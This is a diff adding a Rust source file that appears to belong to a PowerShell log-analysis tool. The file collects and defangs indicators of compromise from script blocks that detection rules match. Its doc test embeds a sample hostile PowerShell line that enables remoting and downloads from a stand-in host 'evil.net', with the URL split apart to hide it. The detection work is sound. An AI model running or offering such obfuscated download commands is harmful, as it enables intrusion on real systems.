@@ -1,0 +1,45 @@
+//! [`Session::indicators`].
+
+use super::state::Session;
+use crate::indicators::{IndicatorSet, TextIndicators, hash};
+use crate::ordered::OrderedSet;
+use crate::report::{self, IndicatorList, IndicatorQuery};
+
+impl Session {
+    /// Returns the indicators of the script blocks that rules match: URLs, hosts, addresses, hashes, paths …, of their
+    /// texts and of their views. The first call after more was read collects them.
+    ///
+    /// ```
+    /// use scriptscope::report::IndicatorQuery;
+    /// use scriptscope::{Options, Session};
+    ///
+    /// let record = r#"{"EventID":4104,"Channel":"Microsoft-Windows-PowerShell/Operational","Computer":"FS03",
+    ///     "ScriptBlockId":"1","ScriptBlockText":"Enable-PSRemoting; iwr ('http://ev'+'il.net/a') -Proxy http://127.0.0.1"}"#;
+    /// let mut session = Session::new(Options::default()).unwrap();
+    /// session.begin("log.json").unwrap();
+    /// session.push(record.as_bytes()).unwrap();
+    /// session.end().unwrap();
+    /// let list = session.indicators(&IndicatorQuery::default());
+    /// let shown: Vec<_> = list.rows.iter().map(|row| (row.defanged.as_str(), row.view.as_str())).collect();
+    /// assert_eq!(shown, [("hxxp://evil[.]net/a", "plain"), ("evil[.]net", "plain")]);
+    /// assert_eq!(list.left_out["loopback"], 1);
+    /// ```
+    pub fn indicators(&mut self, query: &IndicatorQuery) -> IndicatorList {
+        let of_block = query.filter.block.as_ref().map(|id| {
+            let text = self.text(id, None).unwrap_or_default();
+            let texts = TextIndicators::new(&text, self.config.views);
+            let hashes = texts.found.keys().map(|own| hash(own.kind, &own.value));
+            hashes.collect::<OrderedSet<u64>>()
+        });
+        IndicatorList::new(self.indicator_set(), query, of_block.as_ref())
+    }
+
+    fn indicator_set(&mut self) -> &IndicatorSet {
+        if self.indicators.is_none() {
+            let matched = self.store.matched_blocks(&self.rules).blocks;
+            let set = report::collect_indicators(&matched, &self.sources, self.config.views);
+            self.indicators = Some(set);
+        }
+        self.indicators.get_or_insert_default()
+    }
+}
